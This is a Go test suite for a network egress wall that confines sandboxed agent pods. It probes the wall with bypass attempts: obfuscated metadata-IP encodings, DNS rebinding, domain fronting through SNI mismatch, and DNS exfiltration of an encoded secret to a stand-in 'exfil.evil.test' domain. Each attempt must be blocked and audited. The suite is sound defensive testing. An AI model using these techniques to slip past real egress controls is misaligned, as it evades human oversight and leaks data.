package netwall

import (
	"bufio"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/airlock-dev/airlock/internal/errdefs"
	"github.com/airlock-dev/airlock/internal/testutil"
	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// TestWall builds the test internet and one pod, then attacks the wall the
// way an agent would. Every attack must fail and be audited; allowed names
// must work with and without the proxy variables.
func TestWall(t *testing.T) {
	testutil.RequireRoot(t)
	linksBefore := hostLinks(t)
	inet := newInternet(t)
	pod := startPod(t)
	log := &auditLog{}
	w, err := Setup(pod.pid(), testPolicy(), log.add)
	if err != nil {
		t.Fatalf("Setup: %v", err)
	}
	defer func() {
		if t.Failed() {
			t.Logf("audit:\n%s", log.dump())
		}
	}()

	t.Run("allowed", func(t *testing.T) { testAllowed(t, inet, pod) })
	t.Run("ip-literals", func(t *testing.T) { testIPLiterals(t, inet, pod, log) })
	t.Run("connect-tricks", func(t *testing.T) { testConnectTricks(t, pod, log) })
	t.Run("rebinding", func(t *testing.T) { testRebinding(t, inet, pod, log) })
	t.Run("dns-exfiltration", func(t *testing.T) { testDNSExfiltration(t, inet, pod, log) })
	t.Run("other-protocols", func(t *testing.T) { testOtherProtocols(t, pod, log) })
	t.Run("sni-mismatch", func(t *testing.T) { testSNIMismatch(t, inet, pod, log) })
	t.Run("ipv6", func(t *testing.T) { testIPv6(t, pod, log) })
	t.Run("live-policy", func(t *testing.T) { testLivePolicy(t, inet, pod, w) })
	t.Run("dns-cache", func(t *testing.T) { testDNSCache(t, inet, pod) })
	t.Run("publish", func(t *testing.T) { testPublish(t, pod, w) })
	t.Run("env", func(t *testing.T) {
		if env := w.Env(); !slices.Contains(env, "HTTPS_PROXY=http://127.0.0.1:3128") {
			t.Errorf("Env() = %v", env)
		}
	})

	if err := w.Close(); err != nil {
		t.Errorf("Close: %v", err)
	}
	pod.stop()
	inet.Close() // the cleanup's second Close does nothing
	if after := hostLinks(t); after != linksBefore {
		t.Errorf("host links changed: before %s, after %s", linksBefore, after)
	}
}

func get(t *testing.T, c *http.Client, url string) (int, string, error) {
	t.Helper()
	resp, err := c.Get(url)
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	return resp.StatusCode, string(body), err
}

func testAllowed(t *testing.T, inet *internet, pod *testPod) {
	for _, proxy := range []bool{true, false} {
		for _, url := range []string{"http://allowed.test/", "https://www.allowed.test/"} {
			code, body, err := get(t, pod.client(inet.Cert.Pool, proxy), url)
			host := strings.TrimSuffix(strings.SplitN(url, "//", 2)[1], "/")
			if err != nil || code != 200 || body != "hello "+host {
				t.Errorf("proxy=%v GET %s = %d %q %v; want 200 %q", proxy, url, code, body, err, "hello "+host)
			}
		}
	}
}

func testIPLiterals(t *testing.T, inet *internet, pod *testPod, log *auditLog) {
	// Ignoring the proxy variables and going straight to the address.
	for _, url := range []string{"http://198.18.0.2/", "https://198.18.0.2/"} {
		if code, _, err := get(t, pod.client(inet.Cert.Pool, false), url); err == nil {
			t.Errorf("direct GET %s succeeded with %d", url, code)
		}
	}
	if _, ok := log.find("leak", "deny", "198.18.0.2"); !ok {
		t.Errorf("direct IP-literal connection was not audited as a denied leak")
	}
	code, _, err := get(t, pod.client(inet.Cert.Pool, true), "http://198.18.0.2/")
	if err != nil || code != http.StatusForbidden {
		t.Errorf("GET http://198.18.0.2/ via proxy = %d %v; want 403", code, err)
	}
	if _, ok := log.find("connect", "deny", "IP literal"); !ok {
		t.Errorf("IP literal via proxy not audited")
	}
}

// connectStatus sends a raw CONNECT from the pod and returns the status.
func connectStatus(t *testing.T, pod *testPod, target string) (int, net.Conn, *bufio.Reader) {
	t.Helper()
	c, err := pod.dial("tcp", "127.0.0.1:3128")
	if err != nil {
		t.Fatalf("dialing the proxy: %v", err)
	}
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	io.WriteString(c, "CONNECT "+target+" HTTP/1.1\r\nHost: "+target+"\r\n\r\n")
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		c.Close()
		t.Fatalf("CONNECT %s: %v", target, err)
	}
	return resp.StatusCode, c, br
}

func testConnectTricks(t *testing.T, pod *testPod, log *auditLog) {
	for _, target := range []string{
		"[::ffff:a9fe:a9fe]:443", "2852039166:443", "0251.0376.0251.0376:443", "0xa9fea9fe:443",
		"169.254.169.254:80", "127.1:443", "[::1]:443", "[64:ff9b::a9fe:a9fe]:443", "127.0.0.1:3128",
		"198.18.0.2:443", "allowed.test:22", "evil.test:443", "allowed.test.evil.test:443",
	} {
		code, c, _ := connectStatus(t, pod, target)
		c.Close()
		if code != http.StatusForbidden {
			t.Errorf("CONNECT %s = %d; want 403", target, code)
		}
	}
	if _, ok := log.find("connect", "deny", "port 22 not allowed"); !ok {
		t.Errorf("denied port not audited")
	}
}

func testRebinding(t *testing.T, inet *internet, pod *testPod, log *auditLog) {
	for _, name := range []string{"loop", "ten", "meta", "six", "mapped"} {
		url := "http://" + name + ".allowed.test/"
		code, _, err := get(t, pod.client(inet.Cert.Pool, true), url)
		if err != nil || code != http.StatusForbidden {
			t.Errorf("GET %s via proxy = %d %v; want 403", url, code, err)
		}
		if _, ok := log.find("connect", "deny", name+".allowed.test", "denied"); !ok {
			t.Errorf("rebinding to %s not audited", name)
		}
		// The pod's own resolver never hands the bad address out either.
		for _, qt := range []uint16{dns.TypeA, dns.TypeAAAA} {
			m, err := pod.dnsQuery("udp", "127.0.0.1:53", name+".allowed.test", qt)
			if err != nil || len(m.Answer) != 0 {
				t.Errorf("resolver answered %s %s with %v (%v); want no addresses", name, dns.TypeToString[qt], m, err)
			}
		}
	}
}

func testDNSExfiltration(t *testing.T, inet *internet, pod *testPod, log *auditLog) {
	secret := "c2VjcmV0LWtleQ.exfil.evil.test"
	// Through the configured resolver, then around it: straight at the
	// authoritative server and at a public resolver, over UDP and TCP.
	for _, q := range []struct{ network, server string }{
		{"udp", "127.0.0.1:53"}, {"udp", "198.18.0.2:53"}, {"udp", "198.18.0.3:53"},
		{"tcp", "198.18.0.2:53"}, {"udp", "[2001:4860:4860::8888]:53"},
	} {
		m, err := pod.dnsQuery(q.network, q.server, secret, dns.TypeTXT)
		if err != nil || m.Rcode != dns.RcodeNameError {
			t.Errorf("%s query to %s for a denied name = %v, %v; want NXDOMAIN from the wall", q.network, q.server, m, err)
		}
	}
	if code, _, _ := get(t, pod.client(inet.Cert.Pool, true), "http://"+secret+"/"); code != http.StatusForbidden {
		t.Errorf("proxy request for a denied name = %d; want 403", code)
	}
	for _, name := range inet.Queries() {
		if strings.Contains(name, "evil") || strings.Contains(name, "exfil") {
			t.Errorf("authoritative server received %q: a denied name leaked upstream", name)
		}
	}
	if _, ok := log.find("dns", "deny", "exfil.evil.test"); !ok {
		t.Errorf("denied query not audited")
	}
	// An allowed name asked of an address with no resolver is answered by
	// the wall.
	m, err := pod.dnsQuery("udp", "198.18.0.3:53", "allowed.test", dns.TypeA)
	if err != nil || len(m.Answer) != 1 {
		t.Errorf("query via 198.18.0.3 = %v, %v; want the wall's answer", m, err)
	}
}

func testOtherProtocols(t *testing.T, pod *testPod, log *auditLog) {
	for _, addr := range []string{"198.18.0.2:9999", "198.18.0.3:123", "[2001:db8::9]:443"} {
		c, err := pod.dial("udp", addr)
		if err == nil {
			_, err = c.Write([]byte("leak"))
			c.Close()
		}
		if !errors.Is(err, syscall.EPERM) && !errors.Is(err, syscall.ENETUNREACH) {
			t.Errorf("UDP to %s: err = %v; want EPERM (dropped by the wall)", addr, err)
		}
	}
	// Raw ICMP, as root inside the pod's namespace (the agent will not even
	// have CAP_NET_RAW; the rules drop it regardless).
	err := pod.thread.run(func() error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		echo := []byte{8, 0, 0xf7, 0xff, 0, 0, 0, 0}
		return unix.Sendto(fd, echo, 0, &unix.SockaddrInet4{Addr: [4]byte{198, 18, 0, 2}})
	})
	if !errors.Is(err, syscall.EPERM) {
		t.Errorf("raw ICMP echo: err = %v; want EPERM", err)
	}
	// Every drop is in the audit trail (NFLOG delivers it asynchronously).
	for _, want := range [][]string{{"udp", "198.18.0.2", "port:9999"}, {"udp", "198.18.0.3", "port:123"},
		{"udp", "2001:db8::9", "port:443"}, {"icmp", "198.18.0.2", "ICMP does not leave"}} {
		deadline := time.Now().Add(5 * time.Second)
		for {
			if _, ok := log.find("drop", "deny", want...); ok {
				break
			}
			if time.Now().After(deadline) {
				t.Errorf("drop %v not audited; events:\n%s", want, log.dump())
				break
			}
			time.Sleep(10 * time.Millisecond)
		}
	}
}

func testSNIMismatch(t *testing.T, inet *internet, pod *testPod, log *auditLog) {
	cfg := func(sni string) *tls.Config { return &tls.Config{ServerName: sni, RootCAs: inet.Cert.Pool} }
	// CONNECT to an allowed host, then TLS for another one (domain fronting).
	code, c, _ := connectStatus(t, pod, "allowed.test:443")
	if code != 200 {
		t.Fatalf("CONNECT allowed.test:443 = %d", code)
	}
	if err := tls.Client(c, cfg("evil.test")).Handshake(); err == nil {
		t.Errorf("TLS with SNI evil.test through a tunnel to allowed.test succeeded")
	}
	c.Close()
	// A plain request with another Host through the tunnel.
	code, c, br := connectStatus(t, pod, "allowed.test:80")
	if code != 200 {
		t.Fatalf("CONNECT allowed.test:80 = %d", code)
	}
	io.WriteString(c, "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
	if resp, err := http.ReadResponse(br, nil); err == nil {
		t.Errorf("request for Host evil.test through a tunnel to allowed.test got %d", resp.StatusCode)
	}
	c.Close()
	// Transparent: the right address with a denied SNI, and an allowed SNI
	// whose name does not resolve to the address dialled.
	for _, sni := range []string{"evil.test", "other.allowed.test", ""} {
		c, err := pod.dial("tcp", "198.18.0.2:443")
		if err != nil {
			t.Fatal(err)
		}
		conf := cfg(sni)
		conf.InsecureSkipVerify = sni == ""
		if err := tls.Client(c, conf).Handshake(); err == nil {
			t.Errorf("direct TLS to 198.18.0.2 with SNI %q succeeded", sni)
		}
		c.Close()
	}
	if _, ok := log.find("connect", "deny", "does not match"); !ok {
		t.Errorf("SNI mismatch not audited")
	}
	if _, ok := log.find("leak", "deny", "not an address the wall resolved"); !ok {
		t.Errorf("transparent destination mismatch not audited")
	}
}

func testIPv6(t *testing.T, pod *testPod, log *auditLog) {
	c, err := pod.dial("tcp", "[2001:db8::5]:443")
	if err == nil {
		_ = c.SetDeadline(time.Now().Add(3 * time.Second))
		err = tls.Client(c, &tls.Config{ServerName: "allowed.test", InsecureSkipVerify: true}).Handshake()
		c.Close()
	}
	if err == nil {
		t.Errorf("direct IPv6 connection with SNI allowed.test succeeded")
	}
	if _, ok := log.find("leak", "deny", "2001:db8::5"); !ok {
		t.Errorf("IPv6 direct connection not audited (err %v)", err)
	}
	for _, target := range []string{"[2606:4700::1111]:443", "[fe80::1%25lo]:443", "[fd00:ec2::254]:80"} {
		code, c, _ := connectStatus(t, pod, target)
		c.Close()
		if code != http.StatusForbidden {
			t.Errorf("CONNECT %s = %d; want 403", target, code)
		}
	}
}

func testLivePolicy(t *testing.T, inet *internet, pod *testPod, w *Wall) {
	for _, step := range []struct {
		allowEvil bool
		want      int
	}{{false, 403}, {true, 200}, {false, 403}} {
		p := testPolicy()
		if step.allowEvil {
			p.Allow = append(p.Allow, "evil.test")
		}
		w.SetPolicy(p)
		code, _, _ := get(t, pod.client(inet.Cert.Pool, true), "http://evil.test/")
		if code != step.want {
			t.Errorf("allow evil.test=%v: GET via proxy = %d; want %d", step.allowEvil, code, step.want)
		}
		_, _, err := get(t, pod.client(inet.Cert.Pool, false), "https://evil.test/")
		if (err == nil) != step.allowEvil {
			t.Errorf("allow evil.test=%v: direct GET err = %v", step.allowEvil, err)
		}
	}
	if got := w.Policy(); slices.Contains(got.Allow, "evil.test") {
		t.Errorf("Policy() = %+v after revert", got)
	}
}

func testDNSCache(t *testing.T, inet *internet, pod *testPod) {
	count := func() int {
		n := 0
		for _, q := range inet.Queries() {
			if q == "www.allowed.test." {
				n++
			}
		}
		return n
	}
	before := count()
	for range 20 {
		if m, err := pod.dnsQuery("udp", "127.0.0.1:53", "WWW.Allowed.Test", dns.TypeA); err != nil || len(m.Answer) != 1 {
			t.Fatalf("cached query: %v %v", m, err)
		}
	}
	if got := count() - before; got > 1 {
		t.Errorf("upstream asked %d times for a cached name", got)
	}
}

func testPublish(t *testing.T, pod *testPod, w *Wall) {
	var l net.Listener
	if err := pod.thread.run(func() (err error) { l, err = net.Listen("tcp4", "127.0.0.1:8081"); return err }); err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		if c, err := l.Accept(); err == nil {
			io.WriteString(c, "from the pod")
			c.Close()
		}
	}()
	probe, _ := net.Listen("tcp4", "127.0.0.1:0")
	hostAddr := probe.Addr().String()
	probe.Close()
	if err := w.Publish(hostAddr, 8081); err != nil {
		t.Fatal(err)
	}
	c, err := net.DialTimeout("tcp", hostAddr, 3*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	if got, _ := io.ReadAll(c); string(got) != "from the pod" {
		t.Errorf("published port answered %q", got)
	}
}

// TestSetupModeNone: the pod gets lo only, no services, no way out.
func TestSetupModeNone(t *testing.T) {
	testutil.RequireRoot(t)
	pod := startPod(t)
	w, err := Setup(pod.pid(), Policy{Mode: ModeNone}, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if env := w.Env(); env != nil {
		t.Errorf("Env() in mode none = %v", env)
	}
	if _, err := pod.dial("tcp", "198.18.0.2:80"); !errors.Is(err, syscall.ENETUNREACH) {
		t.Errorf("dial out in mode none: %v; want ENETUNREACH", err)
	}
	var l net.Listener
	if err := pod.thread.run(func() (err error) { l, err = net.Listen("tcp", "127.0.0.1:0"); return err }); err != nil {
		t.Fatalf("lo is not up in mode none: %v", err)
	}
	defer l.Close()
	if c, err := pod.dial("tcp", l.Addr().String()); err != nil {
		t.Errorf("loopback inside the pod: %v", err)
	} else {
		c.Close()
	}
}

// TestSetupRefusesHostNamespace: a pod started without CLONE_NEWNET shares
// the supervisor's namespace and must never get rules or routes.
func TestSetupRefusesHostNamespace(t *testing.T) {
	testutil.RequireRoot(t)
	before := hostLinks(t)
	cmd := exec.Command(os.Args[0], "-test.run=^$")
	cmd.Env = append(os.Environ(), podEnv+"=1")
	stdin, _ := cmd.StdinPipe()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { stdin.Close(); _ = cmd.Wait() }()
	if _, err := Setup(cmd.Process.Pid, testPolicy(), nil); !errors.Is(err, errdefs.ErrInvalid) {
		t.Fatalf("Setup(pid in the host namespace) = %v; want ErrInvalid", err)
	}
	if _, err := Setup(1<<30, testPolicy(), nil); err == nil {
		t.Errorf("Setup of a missing pid succeeded")
	}
	if after := hostLinks(t); after != before {
		t.Errorf("host links changed: %s -> %s", before, after)
	}
}
